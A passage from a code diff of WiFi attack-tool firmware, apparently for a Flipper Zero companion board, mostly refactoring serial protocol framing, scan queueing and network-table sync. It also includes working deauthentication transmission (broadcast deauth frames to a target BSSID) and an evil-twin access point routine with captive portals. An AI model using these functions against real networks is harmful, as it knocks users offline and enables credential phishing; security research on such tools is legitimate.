+        sendFrame(type, (const uint8_t*)data.c_str(), len);
+        return;
+    }
+    sendResponseText(type, data);
+}
+
+// STX/ETX text response whatever the current format
+void sendResponseText(char type, const String& data) {
+    // STX, then "#<id>" when answering a request that had one, then the type
+    char head[9];
+    int headLen = 0;
+    head[headLen++] = STX;
+    uint16_t reqId = taskRequestId();
+    if (reqId) headLen += snprintf(head + headLen, sizeof(head) - headLen, "#%u", reqId);
+    head[headLen++] = type;
+    uint8_t tail = ETX;
+    TxPart parts[3] = {
+        {head, (size_t)headLen},
+        {data.c_str(), data.length()},
+        {&tail, 1}
+    };
+    queueResponse(parts, 3);
+}
+
+// Low-priority drain of txRing to both UARTs. Only this task touches the
+// serial TX path for protocol traffic, so nothing else waits on a flush.
+void txWriterTaskFunc(void* params) {
+    (void)params;
+    static uint8_t msg[TX_RING_MAX_MSG];
+
+    while (true) {
+        size_t len = txRingPop(&txRing, msg, sizeof(msg));
+        if (len > 0) {
+            // Send to Flipper (Serial1)
+            Serial1.write(msg, len);
+
+            // Also echo to USB Serial for testing
+            Serial.write(msg, len);
+            continue;
+        }
+
+        // Log lines only once protocol traffic is drained, and USB only
+        len = txRingPop(&logRing, msg, sizeof(msg));
+        if (len > 0) {
+            Serial.write(msg, len);
+            continue;
+        }
+
+        // Woken by queueResponse() or logEmit(); the timeout covers a message
+        // whose producer was preempted between reserve and publish
+        ulTaskNotifyTake(pdTRUE, 10 / portTICK_PERIOD_MS);
+    }
+}
+
+void sendFrame(char type, const uint8_t* payload, uint16_t len) {
+    uint8_t frame[PROTO_MAX_FRAME];
+    size_t frameLen = protoEncodeFrame(frame, sizeof(frame), type, payload, len, taskRequestId());
+    if (frameLen > 0) {
+        writeResponseBytes(frame, frameLen);
+    }
+}
+
+// Count record preceding a list: "i<count>" in text mode, u16 in binary
+void sendListCount(size_t count) {
+    if (binaryProto) {
+        uint8_t payload[2];
+        ProtoBuf pb;
+        protoBufInit(&pb, payload, sizeof(payload));
+        protoPutU16(&pb, count);
+        sendFrame('i', payload, pb.len);
+    } else {
+        sendResponse('i', String(count));
+    }
+}
+
+// Binary 'n' record: idx u16 | bssid[6] | channel u8 | rssi i8 | flags u8 |
+//                    clients u8 | security u32 | ssid_len u8 | ssid |
+//                    streams u8 | width_mhz u16
+#define NET_RECORD_BIN_MAX  (17 + 32 + 3)
+
+void putNetworkRecord(ProtoBuf* pb, int index, WiFiNetwork& net) {
+    uint8_t flags = 0;
+    if (net.is_5ghz) flags |= PROTO_NET_5GHZ;
+    if (net.has_pmf) flags |= PROTO_NET_PMF;
+    if (net.hidden) flags |= PROTO_NET_HIDDEN;
+    if (net.phy & NET_PHY_HT) flags |= PROTO_NET_HT;
+    if (net.phy & NET_PHY_VHT) flags |= PROTO_NET_VHT;
+    if (net.phy & NET_PHY_HE) flags |= PROTO_NET_HE;
+    uint8_t ssidLen = strlen(net.ssid);
+
+    protoPutU16(pb, (uint16_t)index);
+    protoPutBytes(pb, net.bssid, 6);
+    protoPutU8(pb, net.channel);
+    protoPutU8(pb, (uint8_t)(int8_t)net.rssi);
+    protoPutU8(pb, flags);
+    protoPutU8(pb, net.client_count > 255 ? 255 : net.client_count);
+    protoPutU32(pb, net.security);
+    protoPutU8(pb, ssidLen);
+    protoPutBytes(pb, net.ssid, ssidLen);
+    protoPutU8(pb, net.streams);
+    protoPutU16(pb, net.width_mhz);
+}
+
+void sendNetworkRecordBin(int index, WiFiNetwork& net) {
+    uint8_t payload[NET_RECORD_BIN_MAX];
+    ProtoBuf pb;
+    protoBufInit(&pb, payload, sizeof(payload));
+    putNetworkRecord(&pb, index, net);
+    sendFrame('n', payload, pb.len);
+}
+
+// Binary 'c' record: ap_index i16 | mac[6] | rssi i8
+#define CLIENT_RECORD_BIN_LEN   9
+
+void putClientRecord(ProtoBuf* pb, int apIndex, const uint8_t* mac, int rssi) {
+    protoPutU16(pb, (uint16_t)(int16_t)apIndex);
+    protoPutBytes(pb, mac, 6);
+    protoPutU8(pb, (uint8_t)(int8_t)rssi);
+}
+
+// Text 'c' record: ap_index|mac|rssi
+String clientRecordText(int apIndex, const uint8_t* mac, int rssi) {
+    char mac_str[MAC_STR_LEN];
+    formatMac(mac_str, mac);
+    return String(apIndex) + String((char)SEP) + mac_str + String((char)SEP) + String(rssi);
+}
+
+// Client record, used for both list replies and new-client notifications.
+void sendClientRecord(int apIndex, uint8_t* mac, int rssi) {
+    if (binaryProto) {
+        uint8_t payload[CLIENT_RECORD_BIN_LEN];
+        ProtoBuf pb;
+        protoBufInit(&pb, payload, sizeof(payload));
+        putClientRecord(&pb, apIndex, mac, rssi);
+        sendFrame('c', payload, pb.len);
+        return;
+    }
+    sendResponse('c', clientRecordText(apIndex, mac, rssi));
 }
 
 void sendNetworkList() {
-    // Send count first
-    sendResponse('i', String(networks.size()));
+    TRACE_SPAN(span, TRACE_NET_LIST);
+
+    // Send count first (retired slots are skipped, indices stay as-is)
+    sendListCount(activeNetworkCount());
 
     // Send each network
-    // Format: index|ssid|bssid|channel|rssi|band|clients|security|pmf|hidden
-    // NOTE: Empty SSIDs sent as "*hidden*" to avoid strtok parsing issues
     for (size_t i = 0; i < networks.size(); i++) {
-        WiFiNetwork& net = networks[i];
-        // Use "*hidden*" for empty SSIDs - strtok skips empty tokens!
-        String ssid_str = (net.ssid.length() > 0) ? net.ssid : "*hidden*";
-        String data = String(i) + String((char)SEP) +
-                      ssid_str + String((char)SEP) +
-                      net.bssid_str + String((char)SEP) +
-                      String(net.channel) + String((char)SEP) +
-                      String(net.rssi) + String((char)SEP) +
-                      (net.is_5ghz ? "5" : "2") + String((char)SEP) +
-                      String(net.client_count) + String((char)SEP) +
-                      getSecurityString(net.security) + String((char)SEP) +
-                      (net.has_pmf ? "1" : "0") + String((char)SEP) +
-                      (net.hidden ? "1" : "0");
-        sendResponse('n', data);
-    }
-
-    // Check for rogue APs if monitoring is active
-    checkForRogueAPs();
+        if (networks[i].vacant) continue;
+        sendNetworkRecord(i, networks[i]);
+    }
+}
+
+static int wifiGeneration(uint8_t phy) {
+    if (phy & NET_PHY_HE) return 6;
+    if (phy & NET_PHY_VHT) return 5;
+    if (phy & NET_PHY_HT) return 4;
+    return 0;
+}
+
+// Network record, used for list replies and streamed scan results.
+// Format: index|ssid|bssid|channel|rssi|band|clients|security|pmf|hidden|wifi_gen|streams|width
+// wifi_gen is 4 (n), 5 (ac) or 6 (ax) from beacons, 0 if unknown
+// index is -1 (0xFFFF in binary) for a streamed result the table had no room for.
+// NOTE: Empty SSIDs sent as "*hidden*" to avoid strtok parsing issues
+String networkRecordText(int index, WiFiNetwork& net) {
+    // Use "*hidden*" for empty SSIDs - strtok skips empty tokens!
+    const char* ssid_str = net.ssid[0] ? net.ssid : "*hidden*";
+    char bssid_str[MAC_STR_LEN];
+    formatMac(bssid_str, net.bssid);
+    String data = String(index) + String((char)SEP) +
+                  String(ssid_str) + String((char)SEP) +
+                  bssid_str + String((char)SEP) +
+                  String(net.channel) + String((char)SEP) +
+                  String(net.rssi) + String((char)SEP) +
+                  (net.is_5ghz ? "5" : "2") + String((char)SEP) +
+                  String(net.client_count) + String((char)SEP) +
+                  getSecurityString(net.security) + String((char)SEP) +
+                  (net.has_pmf ? "1" : "0") + String((char)SEP) +
+                  (net.hidden ? "1" : "0") + String((char)SEP) +
+                  String(wifiGeneration(net.phy)) + String((char)SEP) +
+                  String(net.streams) + String((char)SEP) +
+                  String(net.width_mhz);
+    return data;
+}
+
+void sendNetworkRecord(int index, WiFiNetwork& net) {
+    if (binaryProto) {
+        sendNetworkRecordBin(index, net);
+        return;
+    }
+    sendResponse('n', networkRecordText(index, net));
 }
 
 void sendClientList() {
-    sendResponse('i', String(clients.size()));
+    sendListCount(activeClientCount());
 
     for (size_t i = 0; i < clients.size(); i++) {
         WiFiClient_t& cli = clients[i];
-        String data = String(cli.ap_index) + String((char)SEP) +
-                      cli.mac_str + String((char)SEP) +
-                      String(cli.rssi);
-        sendResponse('c', data);
+        if (cli.vacant) continue;
+        sendClientRecord(cli.ap_index, cli.mac, cli.rssi);
+    }
+}
+
+// ============== Table Changes ==============
+
+// One change from deltaLog, carrying the record's current state. version is
+// the change's own, or the snapshot's for records sent by a resync.
+// Text:   u<version>|<op>|<table>|<record>, where record is the 'n' record
+//         for networks, <index>|<'c' record> for clients, and <index>|<mac>
+//         for evictions; a reset ('!') has no record.
+// Binary: version u32 | op u8 | table u8 | the same records in their binary
+//         layouts (eviction: index u16 | mac[6]).
+void sendTableChange(const DeltaChange* change, uint32_t version) {
+    uint8_t mac[6];
+    keyToMac(change->key, mac);
+    int idx = change->index;
+    bool evict = (change->op == DELTA_EVICT);
+    bool isNet = (change->table == DELTA_NETWORK);
+
+    if (binaryProto) {
+        uint8_t payload[6 + NET_RECORD_BIN_MAX];
+        ProtoBuf pb;
+        protoBufInit(&pb, payload, sizeof(payload));
+        protoPutU32(&pb, version);
+        protoPutU8(&pb, change->op);
+        protoPutU8(&pb, change->table);
+        if (change->op == DELTA_RESET) {
+            // No record
+        } else if (evict) {
+            protoPutU16(&pb, (uint16_t)idx);
+            protoPutBytes(&pb, mac, 6);
+        } else if (isNet) {
+            putNetworkRecord(&pb, idx, networks[idx]);
+        } else {
+            protoPutU16(&pb, (uint16_t)idx);
+            putClientRecord(&pb, clients[idx].ap_index, clients[idx].mac, clients[idx].rssi);
+        }
+        sendFrame('u', payload, pb.len);
+        return;
+    }
+
+    String data = String(version) + String((char)SEP) + String(change->op) + String((char)SEP) +
+                  String(change->table);
+    if (change->op == DELTA_RESET) {
+        // No record
+    } else if (evict) {
+        char macStr[MAC_STR_LEN];
+        formatMac(macStr, mac);
+        data += String((char)SEP) + String(idx) + String((char)SEP) + macStr;
+    } else if (isNet) {
+        data += String((char)SEP) + networkRecordText(idx, networks[idx]);
+    } else {
+        data += String((char)SEP) + String(idx) + String((char)SEP) +
+                clientRecordText(clients[idx].ap_index, clients[idx].mac, clients[idx].rssi);
+    }
+    sendResponse('u', data);
+}
+
+// Brings a host at version since up to date: the changes after it if the
+// log still has them all, or else (and always for 0) a snapshot of both
+// tables as inserts. A replay that finds the log moved past it mid-way
+// stops and a snapshot follows.
+// Ends with uSYNC:<version>; the host continues from there.
+// Runs on the capture worker (cmdOnWorker), so the tables hold still.
+void sendTableResync(uint32_t since) {
+    uint32_t version = deltaLog.version.load(std::memory_order_acquire);
+
+    bool replayed = false;
+    if (since > 0 && deltaCanReplay(&deltaLog, since)) {
+        sendResponse('u', "REPLAY:" + String(since) + "|VER:" + String(version));
+        replayed = true;
+        DeltaChange c;
+        for (uint32_t v = since + 1; v <= version; v++) {
+            if (!deltaAt(&deltaLog, v, &c)) {
+                replayed = false;
+                break;
+            }
+            if (deltaSuperseded(&deltaLog, &c, version)) continue;
+            // The slot must still hold the record the change was about
+            if (c.op == DELTA_INSERT || c.op == DELTA_UPDATE) {
+                bool live = c.table == DELTA_NETWORK
+                    ? isActiveNetwork(c.index) && networks[c.index].bssid_key == c.key
+                    : isActiveClient(c.index) && clients[c.index].key == c.key;
+                if (!live) continue;
+            }
+            sendTableChange(&c, v);
+        }
+        // Every change sent must have been read before the log wrapped
+        if (replayed && deltaLog.version.load(std::memory_order_acquire) - since > DELTA_LOG_SLOTS) {
+            replayed = false;
+        }
+    }
+    if (!replayed) {
+        version = deltaLog.version.load(std::memory_order_acquire);
+        sendResponse('u', "SNAP:" + String(version) + "|NETS:" + String(activeNetworkCount()) +
+                          "|CLIENTS:" + String(activeClientCount()));
+        DeltaChange c = {};
+        c.op = DELTA_INSERT;
+        c.table = DELTA_NETWORK;
+        for (size_t i = 0; i < networks.size(); i++) {
+            if (networks[i].vacant) continue;
+            c.index = i;
+            c.key = networks[i].bssid_key;
+            sendTableChange(&c, version);
+        }
+        c.table = DELTA_CLIENT;
+        for (size_t i = 0; i < clients.size(); i++) {
+            if (clients[i].vacant) continue;
+            c.index = i;
+            c.key = clients[i].key;
+            sendTableChange(&c, version);
+        }
+    }
+    sendResponse('u', "SYNC:" + String(version));
+}
+
+void cmd_subscribe(char* args) {
+    if (args[0] == SEP) args++;
+    if (args[0] == '1' || args[0] == '0') {
+        tableSubscribed = (args[0] == '1');
+        sendResponse('u', "SUB:" + String(tableSubscribed ? 1 : 0) + "|VER:" + String(deltaLog.version.load()));
+    } else if (args[0] == 'r') {
+        sendTableResync(strtoul(args + 1, NULL, 10));
+    } else if (args[0] == 't') {
+        int db = atoi(args + 1);
+        deltaLog.rssi_threshold = constrain(db, 1, 100);
+        sendResponse('u', "RSSI:" + String(deltaLog.rssi_threshold));
+    } else {
+        sendResponse('u', "SUB:" + String(tableSubscribed ? 1 : 0) +
+                          "|VER:" + String(deltaLog.version.load()) +
+                          "|BASE:" + String(deltaLog.base) +
+                          "|RSSI:" + String(deltaLog.rssi_threshold) +
+                          "|CHANGES:" + String(deltaLog.changes) +
+                          "|SUPPRESSED:" + String(deltaLog.suppressed) +
+                          "|RESETS:" + String(deltaLog.resets));
     }
 }
 
@@ -935,166 +1446,220 @@ void sendBLEList() {
 
 // ============== WiFi Scanning ==============
 
-// Scan callback - uses fixed buffer, NO dynamic allocation
+// Scan callback - copies into the scan queue, NO dynamic allocation.
+// Runs in the driver's task, so it must not block for long.
 rtw_result_t scanBufferCallback(rtw_scan_handler_result_t* result) {
+    // Scan task timed out and stopped reading
+    if (!g_scanAccepting) return RTW_SUCCESS;
+
     if (result->scan_complete == RTW_TRUE) {
         g_scanComplete = true;
-    } else if (g_scanCount < MAX_SCAN_BUFFER) {
-        rtw_scan_result_t* record = &result->ap_details;
-        ScanResultRaw* entry = &g_scanBuffer[g_scanCount];
-
-        // Copy SSID (fixed-size, no String)
-        int len = record->SSID.len;
-        if (len > 32) len = 32;
-        memcpy(entry->ssid, record->SSID.val, len);
-        entry->ssid[len] = 0;
-
-        // Copy other fields
-        memcpy(entry->bssid, record->BSSID.octet, 6);
-        entry->rssi = record->signal_strength;
-        entry->channel = record->channel;
-        entry->security = record->security;
-
-        g_scanCount++;
-    }
+        // End marker; if the queue stays full the scan task's timeout covers it
+        ScanResultRaw end = {};
+        end.kind = SCAN_END;
+        xQueueSend(g_scanQueue, &end, 100 / portTICK_PERIOD_MS);
+        xTaskNotifyGive(captureWorkerTask);
+        return RTW_SUCCESS;
+    }
+
+    rtw_scan_result_t* record = &result->ap_details;
+    ScanResultRaw entry;
+    entry.kind = SCAN_RESULT;
+
+    // Copy SSID (fixed-size, no String)
+    int len = record->SSID.len;
+    if (len > 32) len = 32;
+    memcpy(entry.ssid, record->SSID.val, len);
+    entry.ssid[len] = 0;
+
+    // Copy other fields
+    memcpy(entry.bssid, record->BSSID.octet, 6);
+    entry.rssi = record->signal_strength;
+    entry.channel = record->channel;
+    entry.security = record->security;
+
+    g_scanCount++;
+    if (xQueueSend(g_scanQueue, &entry, 0) != pdTRUE) {
+        g_scanDropped++;
+        return RTW_SUCCESS;
+    }
+    xTaskNotifyGive(captureWorkerTask);
     return RTW_SUCCESS;
 }
 
-// Scan result handler - updates existing networks with BSSID/channel
-rtw_result_t scanResultHandler(rtw_scan_handler_result_t* malloced_scan_result) {
-    rtw_scan_result_t* record;
-
-    if (malloced_scan_result->scan_complete != RTW_TRUE) {
-        record = &malloced_scan_result->ap_details;
-        record->SSID.val[record->SSID.len] = 0;
-        String ssid = String((const char*)record->SSID.val);
-
-        // Try to find and update existing network by SSID
-        bool found = false;
-        for (size_t i = 0; i < networks.size(); i++) {
-            if (networks[i].ssid == ssid && networks[i].bssid[0] == 0) {
-                // Update with BSSID and channel info
-                memcpy(networks[i].bssid, record->BSSID.octet, 6);
-                networks[i].bssid_str = macToString(networks[i].bssid);
-                networks[i].channel = record->channel;
-                networks[i].is_5ghz = (record->channel >= 36);
-                found = true;
-                break;
-            }
+// Folds one scan result into the network table. Returns its index, or -1 if
+// the table is full. Duplicate BSSIDs (same AP heard twice) update in place.
+int storeScanResult(const ScanResultRaw* raw, unsigned long now) {
+    int idx = findNetwork(macToKey(raw->bssid));
+    if (idx >= 0) {
+        WiFiNetwork& net = networks[idx];
+        memcpy(net.ssid, raw->ssid, sizeof(net.ssid));
+        setNetworkChannel(net, raw->channel);
+        setNetworkRssi(idx, raw->rssi);
+        net.security = raw->security;
+        net.is_5ghz = (raw->channel >= 36);
+        net.has_pmf = hasPMF(raw->security);
+        net.hidden = (raw->ssid[0] == 0);
+        net.last_seen = now;
+        return idx;
+    }
+
+    WiFiNetwork net = {};
+    memcpy(net.ssid, raw->ssid, sizeof(net.ssid));
+    net.channel = raw->channel;
+    net.rssi = raw->rssi;
+    net.security = raw->security;
+    net.is_5ghz = (raw->channel >= 36);
+    net.client_count = 0;
+    net.has_pmf = hasPMF(raw->security);
+    net.hidden = (raw->ssid[0] == 0);
+    memcpy(net.bssid, raw->bssid, 6);
+    net.bssid_key = macToKey(net.bssid);
+    net.last_seen = now;
+
+    return addNetwork(net);
+}
+
+// Applies one scan queue entry to the tables. Runs on the capture worker;
+// entries outside a SCAN_BEGIN/SCAN_END pair are left over from a scan that
+// timed out and are dropped.
+void applyScanEntry(const ScanResultRaw* raw, unsigned long now) {
+    if (raw->kind == SCAN_BEGIN) {
+        g_scanActive = true;
+        g_scanTableFull = 0;
+        // A full scan starts over; a merge scan keeps indices and client
+        // associations gathered by promiscuous mode
+        if (!g_scanRequest.merge) {
+            clearNetworks();
+            clearClients();
         }
-
-        // If not found and we have space, add as new
-        if (!found && networks.size() < MAX_NETWORKS) {
-            WiFiNetwork net;
-            net.ssid = ssid;
-            net.channel = record->channel;
-            net.rssi = record->signal_strength;
-            net.security = record->security;
-            net.is_5ghz = (record->channel >= 36);
-            net.client_count = 0;
-            net.has_pmf = hasPMF(record->security);
-            net.hidden = (ssid.length() == 0);
-            memcpy(net.bssid, record->BSSID.octet, 6);
-            net.bssid_str = macToString(net.bssid);
-            networks.push_back(net);
+        return;
+    }
+    if (!g_scanActive) return;
+
+    if (raw->kind == SCAN_END) {
+        g_scanActive = false;
+        if (g_scanRequest.merge) {
+            // Retire APs nobody has heard from in a while. No sort - indices
+            // must stay stable for hosts holding them.
+            ageNetworks(now, NETWORK_MAX_AGE_MS);
+        } else if (!g_scanRequest.stream) {
+            // Sort networks: named first, then by signal strength. Streamed
+            // results already went out with their indices, so leave those alone.
+            sortNetworks();
         }
+        xTaskNotifyGive(scanTask);
+        return;
     }
 
-    return RTW_SUCCESS;
+    int idx = storeScanResult(raw, now);
+    if (idx < 0) g_scanTableFull++;
+    if (!g_scanRequest.stream) return;
+
+    // Streamed results answer the 's' command, so they carry its request ID
+    setTaskRequestId(g_scanRequest.req_id);
+    if (idx >= 0) {
+        sendNetworkRecord(idx, networks[idx]);
+    } else {
+        // Still report it - the host just can't target it by index
+        WiFiNetwork net = {};
+        memcpy(net.ssid, raw->ssid, sizeof(net.ssid));
+        memcpy(net.bssid, raw->bssid, 6);
+        net.channel = raw->channel;
+        net.rssi = raw->rssi;
+        net.security = raw->security;
+        net.is_5ghz = (raw->channel >= 36);
+        net.has_pmf = hasPMF(raw->security);
+        net.hidden = (raw->ssid[0] == 0);
+        sendNetworkRecord(-1, net);
+    }
+    setTaskRequestId(0);
 }
 
+// Drives the radio for one scan. The capture worker owns the tables, so the
+// results themselves are folded in there (applyScanEntry); this task waits
+// for it to handle the end of the scan before reporting DONE.
 void scanNetworksTask(void* params) {
-    int scanTime = 5000;
+    ScanRequest req = {5000, false, false, 0};
     if (params) {
-        scanTime = *((int*)params);
-        delete (int*)params;
+        req = *(ScanRequest*)params;
+        delete (ScanRequest*)params;
     }
+    setTaskRequestId(req.req_id);
+    TRACE_SPAN(span, TRACE_SCAN_TASK);
 
     digitalWrite(LED_B, HIGH); // Blue = scanning
 
     // CRITICAL: Stop promiscuous mode before scanning - it blocks wifi_scan_networks!
     bool wasPromisc = promiscActive;
     if (promiscActive) {
-        DEBUG_SER_PRINTLN("Stopping promisc for scan...");
+        LOG_DEBUG("Stopping promisc for scan...");
         stopPromisc();
+        TRACE_PAUSE(span);
         vTaskDelay(500 / portTICK_PERIOD_MS);
+        TRACE_RESUME(span);
     }
 
-    networks.clear();
-    clients.clear();
-
-    // Reset scan buffer
+    // Results left in the queue by a scan that timed out come before
+    // SCAN_BEGIN, so the worker drops them
+    g_scanRequest = req;
     g_scanCount = 0;
+    g_scanDropped = 0;
     g_scanComplete = false;
-    memset(g_scanBuffer, 0, sizeof(g_scanBuffer));
-
-    DEBUG_SER_PRINTLN("Calling wifi_scan_networks...");
-    Serial.flush();
+    ScanResultRaw marker = {};
+    marker.kind = SCAN_BEGIN;
+    xQueueSend(g_scanQueue, &marker, portMAX_DELAY);
+    xTaskNotifyGive(captureWorkerTask);
+    g_scanAccepting = true;
 
+    unsigned long scanStart = millis();
     int ret = wifi_scan_networks(scanBufferCallback, NULL);
 
-    DEBUG_SER_PRINT("Scan returned: ");
-    DEBUG_SER_PRINTLN(ret);
-
-    // Poll for scan results like Arduino WiFi API does
-    int attempts = 10;
-    do {
-        vTaskDelay(2000 / portTICK_PERIOD_MS);
-        DEBUG_SER_PRINT(".");
-    } while (g_scanCount == 0 && --attempts > 0);
-
-    DEBUG_SER_PRINTLN("");
-    DEBUG_SER_PRINT("Callback count: ");
-    DEBUG_SER_PRINTLN(g_scanCount);
+    if (ret != RTW_SUCCESS) LOG_ERROR("wifi_scan_networks failed: %d", ret);
 
-    // Process scan buffer - convert raw results to WiFiNetwork objects
-    // This runs in task context, so String/vector operations are safe
-    for (int i = 0; i < g_scanCount && i < MAX_SCAN_BUFFER; i++) {
-        ScanResultRaw* raw = &g_scanBuffer[i];
-
-        WiFiNetwork net;
-        net.ssid = String(raw->ssid);
-        net.channel = raw->channel;
-        net.rssi = raw->rssi;
-        net.security = raw->security;
-        net.is_5ghz = (raw->channel >= 36);
-        net.client_count = 0;
-        net.has_pmf = hasPMF(raw->security);
-        net.hidden = (raw->ssid[0] == 0);
-        memcpy(net.bssid, raw->bssid, 6);
-        net.bssid_str = macToString(net.bssid);
-
-        networks.push_back(net);
+    // The worker notifies once it has handled SCAN_END. scanTime is only an
+    // upper bound on the driver; past it, end the scan here.
+    TRACE_PAUSE(span);
+    bool ended = ret == RTW_SUCCESS && ulTaskNotifyTake(pdTRUE, req.scan_time / portTICK_PERIOD_MS) > 0;
+    g_scanAccepting = false;
+    if (!ended) {
+        marker.kind = SCAN_END;
+        xQueueSend(g_scanQueue, &marker, portMAX_DELAY);
+        xTaskNotifyGive(captureWorkerTask);
+        ulTaskNotifyTake(pdTRUE, portMAX_DELAY);
     }
+    TRACE_RESUME(span);
+    int tableFull = g_scanTableFull;
 
-    digitalWrite(LED_B, LOW);   // LED off
-
-    // Sort networks: named first, then by signal strength
-    sortNetworks();
+    LOG_INFO("Scan %s %lu ms, results: %d, queue drops: %d, table full: %d",
+             g_scanComplete ? "complete in" : "timed out after",
+             millis() - scanStart, (int)g_scanCount, (int)g_scanDropped, tableFull);
 
-    DEBUG_SER_PRINT("Found ");
-    DEBUG_SER_PRINT(networks.size());
-    DEBUG_SER_PRINTLN(" networks");
+    digitalWrite(LED_B, LOW);   // LED off
 
+#if LOG_LEVEL >= LOG_LEVEL_INFO
     // Count PMF networks
     int pmfCount = 0;
     int hiddenCount = 0;
     for (size_t i = 0; i < networks.size(); i++) {
+        if (networks[i].vacant) continue;
         if (networks[i].has_pmf) pmfCount++;
         if (networks[i].hidden) hiddenCount++;
     }
-    DEBUG_SER_PRINT("PMF protected: ");
-    DEBUG_SER_PRINTLN(pmfCount);
-    DEBUG_SER_PRINT("Hidden: ");
-    DEBUG_SER_PRINTLN(hiddenCount);
+    LOG_INFO("Found %d networks, PMF protected: %d, hidden: %d",
+             activeNetworkCount(), pmfCount, hiddenCount);
+#endif
 
     // Auto-enable promiscuous mode to detect clients
-    DEBUG_SER_PRINTLN("Auto-starting client detection...");
     startPromisc();
 
     digitalWrite(LED_G, HIGH);  // Green on = ready
-    sendResponse('s', "DONE:" + String(networks.size()));
+    // Streamed results the table couldn't hold were still delivered
+    int dropped = g_scanDropped + (req.stream ? 0 : tableFull);
+    sendResponse('s', "DONE:" + String(activeNetworkCount()) + "|DROP:" + String(dropped));
+    TRACE_END(span);    // vTaskDelete never returns, so no scope exit
 
+    setTaskRequestId(0);
     scanTask = NULL;
     vTaskDelete(NULL);
 }
@@ -1102,9 +1667,6 @@ void scanNetworksTask(void* params) {
 // ============== Deauthentication ==============
 
 void startDeauth(int index, int reason, uint8_t* targetClient) {
-    DEBUG_SER_PRINTLN("startDeauth entered");
-    Serial.flush();
-
     if (deauthTaskCount >= MAX_DEAUTH_TASKS) {
         sendResponse('e', "MAX_DEAUTH_TASKS");
         return;
@@ -1120,14 +1682,11 @@ void startDeauth(int index, int reason, uint8_t* targetClient) {
 
     // Try NOT stopping promisc - maybe TX works with it active
     // if (promiscActive) {
-    //     DEBUG_SER_PRINTLN("Stopping promisc for deauth...");
+    //     LOG_DEBUG("Stopping promisc for deauth...");
     //     stopPromisc();
     //     vTaskDelay(200 / portTICK_PERIOD_MS);
     // }
 
-    DEBUG_SER_PRINTLN("Creating deauth task");
-    Serial.flush();
-
     DeauthTask* task = &deauthTasks[deauthTaskCount];
     task->network_index = new int(index);
     task->reason = reason;
@@ -1139,15 +1698,9 @@ void startDeauth(int index, int reason, uint8_t* targetClient) {
         task->target_client = NULL;
     }
 
-    DEBUG_SER_PRINTLN("Starting xTaskCreate");
-    Serial.flush();
-
     xTaskCreate(deauthTask, "deauth", 2048, (void*)task, 1, &task->handle);
     deauthTaskCount++;
 
-    DEBUG_SER_PRINTLN("Task created");
-    Serial.flush();
-
     // Enable main loop TX
     deauthTargetIdx = index;
     doDeauthTx = true;
@@ -1158,7 +1711,7 @@ void startDeauth(int index, int reason, uint8_t* targetClient) {
     digitalWrite(LED_G, LOW);
     digitalWrite(LED_B, LOW);
 
-    DEBUG_SER_PRINTLN("Main loop TX enabled");
+    LOG_DEBUG("Deauth task created, main loop TX enabled");
 }
 
 void stopAllDeauth() {
@@ -1198,26 +1751,13 @@ void deauthTask(void* params) {
     uint8_t deauth_bssid[6];
     memcpy(deauth_bssid, net.bssid, 6);
 
-    Serial.print("Deauth: ");
-    Serial.print(net.ssid);
-    Serial.print(" Ch:");
-    Serial.println(net.channel);
-    Serial.flush();
-
     // No WiFi reinit - original doesn't need it
-    // Just set channel and start TX
-    Serial.println("Starting TX...");
-    Serial.flush();
-
-    Serial.print("Target BSSID: ");
-    Serial.println(net.bssid_str);
-    Serial.print("Channel: ");
-    Serial.println(net.channel);
-    Serial.flush();
-
     // Just signal that deauth is ready - actual TX will happen in main loop
-    Serial.println("Deauth task ready - TX in main loop");
-    Serial.flush();
+#if LOG_LEVEL >= LOG_LEVEL_INFO
+    char bssidStr[MAC_STR_LEN];
+    formatMac(bssidStr, net.bssid);
+    LOG_INFO("Deauth: %s (%s) ch %d - TX in main loop", net.ssid, bssidStr, net.channel);
+#endif
 
     // Keep task alive but don't TX here
     while (true) {
@@ -1226,16 +1766,14 @@ void deauthTask(void* params) {
 }
 
 void doDeauthInMainLoop() {
-    if (!doDeauthTx || deauthTargetIdx < 0 || deauthTargetIdx >= (int)networks.size()) return;
+    if (!doDeauthTx || !isActiveNetwork(deauthTargetIdx)) return;
 
     WiFiNetwork& net = networks[deauthTargetIdx];
     uint8_t broadcast[6] = {0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF};
 
     wext_set_channel(WLAN0_NAME, net.channel);
 
-    Serial.print("TX>");
     wifi_tx_deauth_frame(net.bssid, broadcast, 2);
-    Serial.print("<");
 }
 
 // ============== Beacon Flooding ==============
@@ -1371,13 +1909,13 @@ void startEvilTwin(PortalType portal) {
         stopEvilTwin();
     }
 
-    DEBUG_SER_PRINTLN("Starting Evil Twin AP...");
+    LOG_INFO("Starting Evil Twin AP...");
 
     currentPortal = portal;
 
     // CRITICAL: Stop promiscuous mode first - it conflicts with AP mode
     if (promiscActive) {
-        DEBUG_SER_PRINTLN("Stopping promisc for AP mode...");
+        LOG_DEBUG("Stopping promisc for AP mode...");
         stopPromisc();
         vTaskDelay(500 / portTICK_PERIOD_MS);
     }
@@ -1389,41 +1927,34 @@ void startEvilTwin(PortalType portal) {
     }
 
     // Turn off WiFi completely before switching to AP mode
-    DEBUG_SER_PRINTLN("Turning off WiFi...");
+    LOG_DEBUG("Turning off WiFi...");
     wifi_off();
     vTaskDelay(1000 / portTICK_PERIOD_MS);
 
     // Prepare channel string
     snprintf(ap_channel_str, sizeof(ap_channel_str), "%d", current_channel);
 
-    DEBUG_SER_PRINT("Starting AP: ");
-    DEBUG_SER_PRINT(ap_ssid);
-    DEBUG_SER_PRINT(" pass: ");
-    DEBUG_SER_PRINT(ap_pass);
-    DEBUG_SER_PRINT(" ch: ");
-    DEBUG_SER_PRINTLN(ap_channel_str);
+    LOG_INFO("Starting %s AP: %s ch: %s", strlen(ap_pass) < 8 ? "open" : "secured",
+             ap_ssid, ap_channel_str);
 
     // WiFi.apbegin() handles driver init internally
     // Try OPEN network first (more compatible), then secured if password set
     int ret;
     if (strlen(ap_pass) < 8) {
         // Open AP (no password or too short for WPA)
-        DEBUG_SER_PRINTLN("Starting OPEN AP...");
         ret = WiFi.apbegin(ap_ssid, ap_channel_str);
     } else {
         // Secured AP with password
-        DEBUG_SER_PRINTLN("Starting secured AP...");
         ret = WiFi.apbegin(ap_ssid, ap_pass, ap_channel_str);
     }
 
-    DEBUG_SER_PRINT("apbegin returned: ");
-    DEBUG_SER_PRINTLN(ret);
+    LOG_DEBUG("apbegin returned: %d", ret);
 
     // Give AP time to start broadcasting
     vTaskDelay(2000 / portTICK_PERIOD_MS);
 
     if (ret != WL_CONNECTED) {
